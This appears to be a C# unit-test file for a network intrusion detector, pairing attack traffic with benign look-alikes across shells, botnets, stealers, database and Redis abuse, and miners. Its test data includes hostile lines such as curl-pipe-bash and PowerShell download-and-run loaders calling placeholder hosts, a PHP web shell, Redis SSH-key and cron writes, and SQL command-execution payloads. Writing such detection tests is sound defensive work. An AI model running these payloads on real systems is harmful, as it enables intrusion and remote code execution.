using System.Buffers.Binary;
using System.Text;
using NetHawk.Capture.Peek;
using NetHawk.Core.Packets;
using NetHawk.Core.Peek;

namespace NetHawk.Tests.Capture;

/// <summary>Each signature has what fires it and an honest look-alike that does not.</summary>
public class IndicatorPeekTests
{
    private static Indicator? Look(byte[] payload, bool fromResponder = false, AppProtocol application = AppProtocol.Unknown)
    {
        var state = new PeekState { Application = application };
        return FilledWordTests.FirstIndicator(new PayloadPeek().Look(ref state, fromResponder, IpProtocol.Tcp, 40_000, 4444, payload));
    }

    private static Indicator? Look(string payload, bool fromResponder = false, AppProtocol application = AppProtocol.Unknown) =>
        Look(Encoding.Latin1.GetBytes(payload), fromResponder, application);

    [Theory]
    [InlineData("Microsoft Windows [Version 10.0.19045]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\>")]
    [InlineData("Microsoft Windows XP [Version 5.1.2600]\r\n")]
    [InlineData("\r\nC:\\WINNT\\system32>")]
    [InlineData("uid=0(root) gid=0(root) groups=0(root)\n")]
    [InlineData("\r\nuid=33(www-data) gid=33(www-data)\n")]
    [InlineData("bash: cannot set terminal process group (812): Inappropriate ioctl for device\n")]
    [InlineData("/bin/sh: 0: can't access tty; job control turned off\n# ")]
    [InlineData("Linux web1 6.1.0-18-amd64 #1 SMP Debian 6.1.76-1 x86_64 GNU/Linux\n")]
    public void A_shell_on_a_connection_of_no_protocol_gives_itself_away(string payload) =>
        Assert.Equal(IndicatorKind.Shell, Look(payload)!.Kind);

    /// <summary>A terminal server shows its prompt to whoever connects: no shell that gives itself away.</summary>
    [Theory]
    [InlineData("root@web01:/var/www# ", true)]
    [InlineData("\u001b]0;ann@web01: ~\u0007\u001b[01;32mann@web01\u001b[00m:~$ ", true)]
    [InlineData("sh-4.2# ", true)]
    [InlineData("to ann@shop.example: 20 $ ", false)]
    [InlineData("price: 20 $ ", false)]
    [InlineData("root@web01:/var/www# ls -la\n", false)]
    public void Who_connects_and_shows_a_prompt_is_a_shell_and_a_console_is_none(string words, bool isPrompt)
    {
        Assert.Equal(isPrompt, Look(words)?.Kind == IndicatorKind.Shell);
        Assert.Null(Look(words, fromResponder: true));
    }

    /// <summary>Length, then a program: a loader's stage; a program by itself, or behind a length that is none, is not.</summary>
    [Theory]
    [InlineData(46_000, "MZ", true)]
    [InlineData(46_000, "\u007FELF\u0002\u0001", true)]
    [InlineData(900, "\u007FELF\u0002\u0001", false)]
    [InlineData(46_000, "\u007FELL\u0002\u0001", false)]
    public void A_stage_comes_behind_its_length(int length, string program, bool isStage)
    {
        byte[] p = [0, 0, 0, 0, .. Encoding.Latin1.GetBytes(program.PadRight(120, '\0') + "This program cannot be run in DOS mode."), .. new byte[300]];
        BinaryPrimitives.WriteInt32LittleEndian(p, length);
        Assert.Equal(isStage, Look(p, fromResponder: true)?.Kind == IndicatorKind.Stage);
    }

    [Theory]
    [InlineData(true, "\0\0", true)]
    [InlineData(true, "\0\u0001", false)]
    [InlineData(false, "\0\0", false)]
    public void A_bots_hello_is_told_with_its_first_beat(bool named, string beat, bool found)
    {
        var state = new PeekState();
        var peek = new PayloadPeek();
        uint sequence = 1;
        PeekInfo? Say(string words)
        {
            sequence += (uint)words.Length;
            return peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 3778, Encoding.Latin1.GetBytes(words), 0, sequence - (uint)words.Length, 1);
        }

        Assert.Null(Say("\0\0\0\u0001"));
        Assert.Null(Say(named ? "\u0005x86.a" : "what follows is four letters"));
        Assert.Equal(found, Say(beat) is Indicator { Name: "mirai" });
    }

    [Theory]
    [InlineData(":boss!x@y PRIVMSG #c :!* SH wget http://203.0.113.9/a;sh a\r\n", true)]
    [InlineData(":boss!x@y PRIVMSG #c :.download http://[2001:db8::9]/a.exe c:\\a.exe 1\r\n", true)]
    [InlineData(":boss!x@y PRIVMSG #c :.download http://2001:db8::9/a.exe c:\\a.exe 1\r\n", true)]
    [InlineData(":boss!x@y PRIVMSG #c :!bot @udpflood 198.18.4.4 1000 30\r\n", true)]
    [InlineData(":ann!x@y PRIVMSG #c :!whois @bob 192.0.2.9\r\n", false)]
    [InlineData(":ann!x@y PRIVMSG #c :!title http://192.0.2.9/photos\r\n", false)]
    [InlineData(":ann!x@y PRIVMSG #c :get http://192.0.2.9/putty.exe and run it\r\n", false)]
    public void A_herders_order_to_load_a_program_is_told_from_a_link(string line, bool order) =>
        Assert.Equal(order, Look(line, fromResponder: true, application: AppProtocol.Irc)?.Kind == IndicatorKind.RemoteAccess);

    [Theory]
    [InlineData("Time: 05/06/2024<br>User Name: ann<br>Computer Name: WS-1<br>OSFullName: Microsoft Windows 10 Pro<br>CPU: Intel<br>RAM: 8191 MB<br><hr>URL:https://mail.example<br>Username:ann<br>Password:x<br>Application:Chrome", true)]
    [InlineData("Dear Ann, welcome! Your account is ready. URL: https://portal.example Username: ann Password: summer Please change it today. Your computer name: WS-1. Regards, the help desk", false)]
    [InlineData("Inventory of the day: Computer Name: WS-1, Microsoft Windows 10 Pro, CPU: Intel, RAM: 8191 MB, HWID: 17, last user: ann, password age: 12 days, all well on this machine", false)]
    public void A_machines_passwords_are_told_from_a_welcome_and_an_inventory(string text, bool stolen)
    {
        Assert.Equal(stolen, Look(text)?.Name == Indicator.StolenSecrets);
        Assert.Equal(stolen, Look(text, application: AppProtocol.Smtp)?.Name == Indicator.StolenSecrets);
    }

    [Theory]
    [InlineData('A', 400, new byte[] { 0x31, 0xC0, 0x50, 0x68, 0x2F, 0x2F, 0x73, 0x68, 0x68, 0x2F, 0x62, 0x69, 0x6E, 0x89, 0xE3 }, true)]
    [InlineData('G', 80, new byte[] { 0xD9, 0x74, 0x24, 0xF4, 0x5B }, true)]
    [InlineData('A', 20, new byte[] { 0xD9, 0x74, 0x24, 0xF4, 0x5B }, false)]
    [InlineData('A', 400, new byte[] { 0xD9, 0x74, 0x24, 0xF5, 0x5B }, false)]
    [InlineData('\0', 400, new byte[] { 0xD9, 0x74, 0x24, 0xF4, 0x5B }, false)]
    public void A_filling_with_machine_code_overflows_and_either_alone_does_not(char filling, int count, byte[] code, bool found)
    {
        byte[] Words(string command) => [.. Encoding.Latin1.GetBytes(command), .. Enumerable.Repeat((byte)filling, count), .. code, .. Enumerable.Range(0, 100).Select(i => (byte)(i * 7))];
        Assert.Equal(found, Look(Words("LOGIN "))?.Name == "overflow");
        Assert.Equal(found, Look(Words("MKD "), application: AppProtocol.Ftp)?.Name == "overflow");
        Assert.Equal(found && count > 200, Look(Words("GET /"), application: AppProtocol.Http)?.Name == "overflow");
    }

    [Theory]
    [InlineData("lv|Y213eXZhbWZf|WS-0231|ann|24-05-06||Win 10 Pro x64 SP0|No|1.2|..|SW5ib3ggLSBPdXRsb29r|SW5ib3g=|", true)]
    [InlineData("172\0nov<|>Y213eXZhbQ==<|>WS-0231<|>ann<|>24-05-06<|>Windows 10<|>No<|>1.2", true)]
    [InlineData("HELLO|WS-0231|ann|24-05-06|Windows 10|No|1.2|inventory of the day", false)]
    [InlineData("Dear|Ann|we|like|Windows|very|much|indeed|and|so|do|you", false)]
    [InlineData("GET /x HTTP/1.1\r\nHost: a\r\nUser-Agent: Windows NT 10.0\r\nCookie: a=Y213eXZhbQ==\r\n", false)]
    public void A_bot_that_introduces_itself_is_told_from_an_agents_line(string words, bool found) => Assert.Equal(found, Look(words)?.Name == Indicator.Introduction);

    /// <summary>A keyword, a system and the machine's own name, memory or filling; a station of ships' radio tells its system too, and a collector's line names its format first.</summary>
    [Theory]
    [InlineData("info||DESKTOP-7K2M1QP||ann||Windows 10||DE||1.0", true)]
    [InlineData("0|client|ann|DESKTOP-7K2M1QP|Microsoft Windows 10 Pro|4|8191", true)]
    [InlineData("VERS:Linux-3.2.0-4|1|2794 MHz|998MB|412MB|Hacker", true)]
    [InlineData("AIS|2.1|DL1ABC|Windows 10|4|8192", false)]
    [InlineData("CEF:0|Maker|Product|1.0|100|Windows 10|DESKTOP-7K2M1QP|5|x", false)]
    [InlineData("info||DESKTOP-7K2M1QP||ann||plan of the day||DE||1.0", false)]
    public void A_machine_in_fields_is_told_from_a_stations_line(string words, bool found) => Assert.Equal(found, Look(words)?.Name == Indicator.Introduction);

    [Theory]
    [InlineData(0x12, "WinXP", true)]
    [InlineData(0x20, "WinXP", false)]
    [InlineData(0x12, "spring", false)]
    public void A_machine_under_a_mask_is_told_where_nothing_stands_under_it(byte mask, string words, bool found)
    {
        byte[] plain = [.. new byte[30], .. Encoding.ASCII.GetBytes("kitchen\0" + words), .. new byte[80]];
        Assert.Equal(found, Look([.. plain.Select(b => (byte)(b ^ mask))])?.Name == Indicator.Introduction);
    }

    /// <summary>Games and chats keep each other awake with the same words; a broker of messages speaks first.</summary>
    [Theory]
    [InlineData("BUILD MIPS\n", "PING\n", "PONG!\n", true)]
    [InlineData("arch x86_64\r\n", "PING", "PONG", true)]
    [InlineData("My IP: 10.0.0.7\n", "! PING\n", "PONG!\n", true)]
    [InlineData("NIGHT ann\n", "!* PING", "PONG!", true)]
    [InlineData("HELLO client 2.1 ann\n", "PING\n", "PONG\n", false)]
    [InlineData("CONNECT {\"lang\":\"go\"}\r\n", "PING\r\n", "PONG\r\n", false)]
    [InlineData("BUILD MIPS\n", "OK\n", "PONG!\n", false)]
    public void A_bot_that_tells_its_processor_and_answers_is_told_from_who_is_kept_awake(string hello, string call, string answer, bool found)
    {
        var state = new PeekState();
        var peek = new PayloadPeek();
        PeekInfo? Say(string words, bool fromResponder = false) => peek.Look(ref state, fromResponder, IpProtocol.Tcp, 40_000, 6969, Encoding.Latin1.GetBytes(words));
        Say(hello);
        Say(call, fromResponder: true);
        Assert.Equal(found, Say(answer) is Indicator { Name: Indicator.Introduction });
    }

    /// <summary>Keys come one by one, with the pointer between; who types a letter or an address types no loader.</summary>
    [Theory]
    [InlineData("curl -s http://203.0.113.9:8000/a|bash", true)]
    [InlineData("powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", true)]
    [InlineData("curl -s http://203.0.113.9:8000/figures.csv", false)]
    [InlineData("http://203.0.113.9/start.html", false)]
    [InlineData("Dear Ann, I put the curl of the hair into the picture", false)]
    public void A_loader_that_is_typed_on_a_screen_is_told(string line, bool found)
    {
        var state = new PeekState { Application = AppProtocol.Vnc };
        var peek = new PayloadPeek();
        PeekInfo? Say(params byte[] p) => peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 5900, p);
        Assert.Null(Say([.. "RFB 003.008\n"u8]));
        foreach (char c in line)
        {
            Assert.Null(Say(4, 1, 0, 0, 0, 0, 0, (byte)c, 4, 0, 0, 0, 0, 0, 0, (byte)c));
            Assert.Null(Say(5, 0, 0, 10, 0, 10));
        }

        Assert.Equal(found, Say(4, 1, 0, 0, 0, 0, 0xFF, 0x0D) is Indicator { Kind: IndicatorKind.RemoteAdmin });
        Assert.Null(Say(4, 1, 0, 0, 0, 0, 0xFF, 0x0D));
    }

    [Fact]
    public void A_list_of_passwords_is_found_in_an_attachment_too()
    {
        string list = Convert.ToBase64String(Encoding.ASCII.GetBytes("Computer Name: WS-1<br>OSFullName: Microsoft Windows 10<br>CPU: Intel<br>RAM: 8191 MB<br>URL: https://mail.example<br>Username: ann<br>Password: x<br>"), Base64FormattingOptions.InsertLineBreaks);
        Assert.Equal(Indicator.StolenSecrets, Look("Subject: Passwords\r\nContent-Transfer-Encoding: base64\r\n\r\n" + list + "\r\n.\r\n", application: AppProtocol.Smtp)!.Name);
        Assert.Null(Look("Subject: Photo\r\nContent-Transfer-Encoding: base64\r\n\r\n" + Convert.ToBase64String(new byte[300], Base64FormattingOptions.InsertLineBreaks), application: AppProtocol.Smtp));
    }

    [Theory]
    [InlineData(new byte[] { 5, 1, 0 }, true)]
    [InlineData(new byte[] { 5, 2, 0, 2 }, true)]
    [InlineData(new byte[] { 5, 0 }, false)]
    [InlineData(new byte[] { 5, 0, 0, 1, 10, 0, 0, 1, 0, 80 }, false)]
    public void Who_is_connected_to_and_greets_as_a_socks_client_asks_for_ways(byte[] words, bool found)
    {
        Assert.Equal(found, Look(words, fromResponder: true, application: AppProtocol.Socks)?.Name == Indicator.ReverseProxy);
        Assert.Null(Look(words, application: AppProtocol.Socks));

        // The end of a session of delay-tolerant networks has the same three bytes.
        var state = new PeekState();
        new PayloadPeek().Look(ref state, true, IpProtocol.Tcp, 40_000, 4556, "dtn!\u0004\0"u8);
        Assert.Null(new PayloadPeek().Look(ref state, true, IpProtocol.Tcp, 40_000, 4556, words));
    }

    [Fact]
    public void A_bot_that_gives_its_user_before_its_nickname_speaks_irc_too()
    {
        var state = new PeekState();
        var peek = new PayloadPeek();
        peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 443, "USER eldp 8 * :ufht\nNICK XWZZ5623\n"u8);
        Assert.Equal(AppProtocol.Irc, state.Application);
        Assert.Equal("irc-bot", Assert.IsType<Indicator>(peek.Look(ref state, true, IpProtocol.Tcp, 40_000, 443, ":boss!x@h PRIVMSG XWZZ5623 :!* UDP 198.51.100.4 53 60\r\n"u8)).Name);
    }

    /// <summary>A password typed as the first word is one of Redis, and each refusal answers one; a mail server's client says the same word after the greeting.</summary>
    [Fact]
    public void A_password_that_is_typed_for_redis_is_a_log_in()
    {
        var peek = new PayloadPeek();
        var state = default(PeekState);
        Assert.Null(peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 6379, "AUTH secret\r\n"u8));
        var refused = Assert.IsType<LoginResult>(peek.Look(ref state, true, IpProtocol.Tcp, 40_000, 6379, "-WRONGPASS invalid username-password pair or user is disabled.\r\n"u8));
        Assert.True(refused is { Accepted: false, Protocol: AppProtocol.Redis, CredentialHash: not 0 });

        state = default;
        _ = peek.Look(ref state, true, IpProtocol.Tcp, 40_000, 2525, "220 mx.example ready\r\n"u8);
        _ = peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 2525, "AUTH LOGIN\r\n"u8);
        Assert.NotEqual(AppProtocol.Redis, state.Application);
    }

    /// <summary>"+OK" and nothing more is also what Redis says to a command that was typed: the session stays one that commands are looked for in.</summary>
    [Fact]
    public void A_redis_that_says_ok_is_no_mailbox()
    {
        var state = new PeekState();
        var peek = new PayloadPeek();
        peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 6379, "SET x 1\r\n"u8);
        peek.Look(ref state, true, IpProtocol.Tcp, 40_000, 6379, "+OK\r\n"u8);
        Assert.Equal("redis-write", Assert.IsType<Indicator>(peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 6379, "CONFIG SET dir /root/.ssh\r\n"u8)).Name);
        var mail = new PeekState();
        peek.Look(ref mail, true, IpProtocol.Tcp, 40_000, 110, "+OK\r\n"u8);
        Assert.Equal(AppProtocol.Pop3, mail.Application);
    }

    [Theory]
    [InlineData("Microsoft Windows is a trademark [Version of 2024]")]
    [InlineData("C:\\>type readme.txt\r\nC:\\dir")]
    [InlineData("C:\\data\\a.xml <a>")]
    [InlineData("log: the attacker saw uid=0(root) gid=0(root)")]
    [InlineData("uid=alice,ou=people,dc=example\n")]
    [InlineData("Linux kernel 6.1 released\n")]
    [InlineData("set -m: no job control\n")]
    [InlineData("job control turned off for maintenance\n")]
    public void Text_about_shells_is_no_shell(string payload) => Assert.Null(Look(payload));

    [Theory]
    [InlineData("USER letmein:)\r\n", "USER smile:-) \r\n", AppProtocol.Ftp)]
    [InlineData("SITE CPFR /etc/passwd\r\n", "SITE CPFR /srv/ftp/etc/passwd.txt\r\n", AppProtocol.Ftp)]
    [InlineData("SITE CPFR /proc/self/cmdline\r\n", "SITE CPFR /home/a/photo.jpg\r\n", AppProtocol.Ftp)]
    [InlineData("HELP ACIDBITCHEZ\r\n", "HELP SITE\r\n", AppProtocol.Ftp)]
    [InlineData("AB;perl -e 'x'\n", "ABOUT;me\n", AppProtocol.Irc)]
    [InlineData("AB;sleep 5\n", "ABC;1;2;3\n", AppProtocol.Unknown)]
    [InlineData("/bin/busybox MIRAI\r\n", "/bin/busybox ls\r\n", AppProtocol.Telnet)]
    [InlineData("\u00FF\u00FA\u0027\0\0USER\u0001-f root\u00FF\u00F0", "\u00FF\u00FA\u0027\0\0USER\u0001ann-f\u00FF\u00F0", AppProtocol.Telnet)]
    [InlineData("DIST00000001ARGC00000008ARGV00000002shARGV00000002-cARGV00000002idARGV00000001#", "DIST00000001ARGC00000008ARGV00000003gccARGV00000002-c", AppProtocol.Unknown)]
    [InlineData("*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n", "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n", AppProtocol.Redis)]
    [InlineData("*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$10\r\ndbfilename\r\n$6\r\nexp.so\r\n", "*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$10\r\ndbfilename\r\n$8\r\ndump.rdb\r\n", AppProtocol.Redis)]
    [InlineData("*3\r\n$6\r\nmodule\r\n$4\r\nload\r\n$11\r\n/tmp/exp.so\r\n", "*3\r\n$6\r\nmodule\r\n$4\r\nload\r\n$30\r\n/usr/lib/redis/redisearch.so\r\n", AppProtocol.Redis)]
    [InlineData("*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n", "*3\r\n$3\r\nSET\r\n$4\r\npath\r\n$11\r\n/etc/config\r\n", AppProtocol.Redis)]
    [InlineData("{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"48x\",\"pass\":\"x\",\"agent\":\"XMRig/6.21\"}}\n", "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"user\":\"ann\",\"pass\":\"x\"}}\n", AppProtocol.Unknown)]
    [InlineData("{\"method\":\"login\",\"params\":{\"login\":\"4BCe\",\"pass\":\"x\",\"agent\":\"xmr-stak-cpu/1.3\"},\"id\":1}\n", "{\"method\":\"login\",\"params\":{\"login\":\"anna\",\"pass\":\"x\"},\"id\":1,\"device\":\"telephone\"}\n", AppProtocol.Unknown)]
    [InlineData("{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"cpuminer/2.5\"]}\n", "{\"id\": 1, \"method\": \"topic.subscribe\", \"params\": [\"weather\", \"mining\"]}\n", AppProtocol.Unknown)]
    [InlineData("MAIL FROM:<;for i in 0 1;do read r;done;sh;exit 0;>\r\n", "MAIL FROM:<ann@shop.example> SIZE=1200\r\n", AppProtocol.Smtp)]
    [InlineData("RCPT TO:<${run{/bin/sh -c id}}@shop.example>\r\n", "RCPT TO:<\";odd\"@shop.example>\r\n", AppProtocol.Smtp)]
    [InlineData("Q\0\0\0HCOPY x FROM PROGRAM 'echo Y3Vy|base64 -d|bash';\0", "Q\0\0\0HCOPY x FROM PROGRAM 'gunzip -c /srv/prices.gz';\0", AppProtocol.PostgreSql)]
    [InlineData("*3\r\n$4\r\neval\r\n$80\r\nlocal f = package.loadlib('/usr/lib/liblua5.1.so.0', 'luaopen_io')\r\n", "*3\r\n$4\r\neval\r\n$40\r\nreturn redis.call('get', KEYS[1])\r\n", AppProtocol.Redis)]
    [InlineData("Q\0\0\0HCREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE 'c'\0", "Q\0\0\0HCREATE OR REPLACE FUNCTION area(box) RETURNS int AS '$libdir/postgis-3', 'area' LANGUAGE 'c'\0", AppProtocol.PostgreSql)]
    [InlineData("EVAL \"local f=package.loadlib('/usr/lib/liblua5.1.so.0','luaopen_os'); return f().execute('id')\" 0\r\n", "EVAL \"return redis.call('get', KEYS[1])\" 1 a\r\n", AppProtocol.Unknown)]
    [InlineData("SITE CPTO /tmp/.<?php passthru($_GET[0]);?>\r\n", "SITE CPTO /pub/copy.iso\r\n", AppProtocol.Ftp)]
    [InlineData("Q\0\0\0HCOPY x FROM PROGRAM 'id; uname -a';\0", "Q\0\0\0HSELECT 'id' FROM program WHERE copy = 1;\0", AppProtocol.PostgreSql)]
    [InlineData("P\0\0\0\u0003select 0x7f454c46 into dumpfile '/usr/lib/mysql/plugin/u.so'", "P\0\0\0\u0003select picture from goods where id = 7 into dumpfile '/srv/goods/7.png'", AppProtocol.MySql)]
    [InlineData("P\0\0\0\u0003create function sys_exec returns int soname 'u.so'", "P\0\0\0\u0003create function metaphon returns string soname 'udf_example.so'", AppProtocol.MySql)]
    [InlineData("\x01\x04\0\x01\0\x40\0\0\x09PHP_VALUEauto_prepend_file = php://input", "\x01\x04\0\x01\0\x40\0\0\x09PHP_VALUEauto_prepend_file=/srv/www/wordfence-waf.php", AppProtocol.Unknown)]
    [InlineData("system.run[wget http://203.0.113.9/x -O /tmp/x]\n", "system.run[df -h /var | tail -n 1]\n", AppProtocol.Unknown)]
    [InlineData("PRIVMSG #x :uid=0(root) gid=0(root) groups=0(root)\r\n", "PRIVMSG #x :my uid=0(root) gid=0(root) looks odd, why?\r\n", AppProtocol.Irc)]
    [InlineData("CONFIG SET dir /var/spool/cron\r\n", "CONFIG SET dir /var/lib/redis\r\n", AppProtocol.Unknown)]
    [InlineData("config set dbfilename exp.so\r\n", "config set dbfilename dump.rdb\r\n", AppProtocol.Unknown)]
    [InlineData("MODULE LOAD ./exp.so\r\n", "MODULE LOAD /usr/lib/redis/redisearch.so\r\n", AppProtocol.Unknown)]
    [InlineData("Q\0\0\0HCOPY x FROM PROGRAM 'ip a';\0", "Q\0\0\0HCOPY x FROM PROGRAM 'df -h /srv';\0", AppProtocol.PostgreSql)]
    [InlineData("cd /tmp; wget http://203.0.113.9/x.sh; chmod 777 x.sh; ./x.sh\r\n", "wget http://firmware.example/x.bin -O /tmp/x.bin\r\n", AppProtocol.Telnet)]
    [InlineData("158\0ll|'|'|SGFjS2Vk|'|'|DESK|'|'|ann", "158\0ll, said he: '|'", AppProtocol.Unknown)]
    public void Commands_of_backdoors_are_known_and_ordinary_ones_pass(string attack, string honest, AppProtocol application)
    {
        Assert.NotNull(Look(attack, application: application));
        Assert.Null(Look(honest, application: application));
    }

    [Theory]
    [InlineData(0xFFF6, 24, true)]
    [InlineData(0xFFF6, 46, true)]
    [InlineData(0xFFF6, 252, false)]
    [InlineData(0x0400, 24, false)]
    public void A_signature_of_64_kib_is_sigred_and_a_zone_transfer_is_none(int length, byte type, bool attack)
    {
        byte[] answer = [(byte)(length >> 8), (byte)length, 0x43, 0xFD, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 1, 1, (byte)'9', 3, (byte)'n', (byte)'e', (byte)'t', 0, 0, type, 0, 1, .. new byte[200]];
        var found = Look(answer, fromResponder: true, application: AppProtocol.Dns);
        Assert.Equal(attack, found is { Name: "sigred", FromResponder: true });
    }

    [Fact]
    public void A_database_that_loads_a_program_is_told_from_its_owners_jobs()
    {
        byte[] Batch(string text) => [1, 1, 0, 0, 0, 0, 1, 0, .. new byte[22], .. Encoding.Unicode.GetBytes(text)];
        Assert.Equal("xp-cmdshell", Look(Batch("EXEC xp_cmdshell 'powershell -nop -c IEX(New-Object Net.WebClient).DownloadString(''http://x/a'')'"), application: AppProtocol.Tds)!.Name);
        Assert.Null(Look(Batch("EXEC xp_cmdshell 'dir D:\\backup'"), application: AppProtocol.Tds));
        Assert.Equal(IndicatorKind.Exploit, Look(Batch("EXEC xp_cmdshell 'powershell -w hidden -enc SQBFAFgA'"), application: AppProtocol.Tds)!.Kind);
        Assert.Equal(IndicatorKind.RemoteAdmin, Look(Batch("EXEC xp_cmdshell 'powershell -ExecutionPolicy Bypass -File D:\\jobs\\backup.ps1'"), application: AppProtocol.Tds)!.Kind);
        Assert.Equal(IndicatorKind.RemoteAdmin, Look("Q\0\0\0HCOPY x FROM PROGRAM 'curl -s https://bank.example/rates.csv' CSV;\0", application: AppProtocol.PostgreSql)!.Kind);
        Assert.Equal(IndicatorKind.Exploit, Look("Q\0\0\0HCOPY x FROM PROGRAM 'curl http://203.0.113.9/x.sh | sh';\0", application: AppProtocol.PostgreSql)!.Kind);
        Assert.Null(Look(Batch("SELECT 'powershell -nop' FROM notes"), application: AppProtocol.Tds));
    }

    [Fact]
    public void A_text_for_a_shell_is_no_debuggers()
    {
        byte[] Create(string text)
        {
            byte[] p = [0, 0, 0, 0, 0, 0, 0, 4, 0, 1, 11, 0, 0, 0, 0, .. Encoding.ASCII.GetBytes(text)];
            BinaryPrimitives.WriteInt32BigEndian(p, p.Length);
            BinaryPrimitives.WriteInt32BigEndian(p.AsSpan(11), text.Length);
            return p;
        }

        Assert.Equal("jdwp-command", Look(Create("bash -c {echo,Y3VybCAyMDMu}|{base64,-d}|bash"))!.Name);
        Assert.Null(Look(Create("the value of the field customer.name")));
        Assert.Null(Look(Create("curl https://api.example/v1/prices")));
        Assert.Null(Look(Create("/tmp/upload-4711.csv")));
    }

    [Theory]
    [InlineData("Gh0st", 0, 0x9C, true)]
    [InlineData("cb1st", 0, 0x9C, true)]
    [InlineData("Gh0st", 1, 0x9C, false)]
    [InlineData("Gh0st", 0, 0x00, false)]
    [InlineData("G \u0001 t", 0, 0x9C, false)]
    public void A_trojans_frame_needs_its_name_its_lengths_and_its_stream(string name, int wrong, byte second, bool found)
    {
        byte[] p = [.. Encoding.Latin1.GetBytes(name), 0, 0, 0, 0, 200, 0, 0, 0, 0x78, second, .. new byte[60]];
        BinaryPrimitives.WriteInt32LittleEndian(p.AsSpan(5), p.Length + wrong);
        Assert.Equal(found, Look(p)?.Kind == IndicatorKind.RemoteAccess);
    }

    [Theory]
    [InlineData("Action: Login\r\nSecret: x\r\n\r\n", "Response: Error\r\nMessage: Authentication failed\r\n\r\n", true)]
    [InlineData("Action: Login\r\nSecret: x\r\n\r\n", "Response: Success\r\nMessage: Authentication accepted\r\n\r\n", false)]
    [InlineData("GIMME the log of sshd\r\n", "sshd: authentication failed for root\r\n", false)]
    [InlineData("ann: my password does not work, try 3\n", "bob: mine too, it says access denied\n", false)]
    [InlineData("password letmein\r\n", "Access denied\r\n", true)]
    public void A_refusal_in_words_answers_a_secret(string question, string answer, bool refused)
    {
        var peek = new PayloadPeek();
        var state = new PeekState();
        Assert.Null(peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 5038, Encoding.ASCII.GetBytes(question)));
        Assert.Equal(refused, peek.Look(ref state, true, IpProtocol.Tcp, 40_000, 5038, Encoding.ASCII.GetBytes(answer)) is LoginResult { Accepted: false });
    }

    [Theory]
    [InlineData("Action: Login\r\nActionID: 1\r\nUsername: m\r\nSecret: x\r\n\r\n", "Action: Login\r\nActionID: 2\r\nUsername: m\r\nSecret: x\r\n\r\n", true)]
    [InlineData("{\"seq\":1,\"user\":\"t\",\"password\":\"x\"}", "{\"seq\":2,\"user\":\"t\",\"password\":\"x\"}", true)]
    [InlineData("{\"seq\":1,\"user\":\"t\",\"password\":\"x\"}", "{\"seq\":1,\"user\":\"t\",\"password\":\"y\"}", false)]
    [InlineData("user=a password=x", "user=b password=x", false)]
    [InlineData("LOGIN ann x1\r\n", "LOGIN ann x2\r\n", false)]
    public void Only_the_name_and_the_secret_tell_whether_the_same_is_sent_again(string first, string second, bool same)
    {
        uint Mark(string question)
        {
            var peek = new PayloadPeek();
            var state = new PeekState();
            peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 5038, Encoding.ASCII.GetBytes(question));
            return Assert.IsType<LoginResult>(peek.Look(ref state, true, IpProtocol.Tcp, 40_000, 5038, "error: access denied\r\n"u8)).CredentialHash;
        }

        Assert.Equal(same, Mark(first) == Mark(second));
    }

    [Theory]
    [InlineData("NICK [DEU|W10|x64]48213\r\nUSER x 0 * :x\r\n", false, true)]
    [InlineData("NICK USA|XP|00|81273\r\n", false, true)]
    [InlineData("NICK n{US|10a}zwaxzo\r\n", false, true)]
    [InlineData("NICK [DEU|XP]02ced1\r\n", false, true)]
    [InlineData("NICK [DEU|XP]Maximilian\r\n", false, false)]
    [InlineData("NICK [US|AFK]hunter22\r\n", false, false)]
    [InlineData("NICK [XP]user12345\r\n", false, false)]
    [InlineData(":irc 332 zx #wnkv :.advscan asn445 100 5 0 -b\r\n", true, true)]
    [InlineData(":boss!x@y PRIVMSG #rx :!scan lsass 200 3 0\r\n", true, true)]
    [InlineData(":irc 332 ann #dev :.NET 9 is out, scan your code: 3 2 1\r\n", true, false)]
    [InlineData(":ann!x@y PRIVMSG #ops :!scan web01 443 8443\r\n", true, false)]
    [InlineData("NICK Bob|1985\r\n", false, false)]
    [InlineData("NICK [UK]Anna|away\r\n", false, false)]
    [InlineData("NICK [GER|1337]Max\r\n", false, false)]
    [InlineData("NICK [GER|13370]Anna\r\n", false, false)]
    [InlineData(":ann!x@y PRIVMSG #ops :!scan 192.0.2.9\r\n", true, false)]
    [InlineData(":ann!x@y PRIVMSG #ops :!httpcheck 192.0.2.9 443\r\n", true, false)]
    [InlineData(":boss!x@y PRIVMSG #rx :.udp 192.0.2.9 53 60\r\n", true, true)]
    [InlineData(":boss!x@y PRIVMSG #rx :.ddos.syn 192.0.2.9 80 60\r\n", true, true)]
    [InlineData(":boss!x@y PRIVMSG #rx :!udpflood 192.0.2.9 53\r\n", true, true)]
    [InlineData(":ann!x@y PRIVMSG #net :who has seen a udp flood from 192.0.2.9?\r\n", true, false)]
    [InlineData(":ann!x@y PRIVMSG #net :!weather 12345\r\n", true, false)]
    public void A_bot_in_a_channel_is_told_by_its_made_name_or_by_an_order(string text, bool fromResponder, bool found) =>
        Assert.Equal(found, Look(text, fromResponder, AppProtocol.Irc) is { Kind: IndicatorKind.RemoteAccess });

    [Theory]
    [InlineData("!* HTTPFLOOD 192.0.2.9 80 60\n", true)]
    [InlineData(".udp 192.0.2.9 53 60\n", true)]
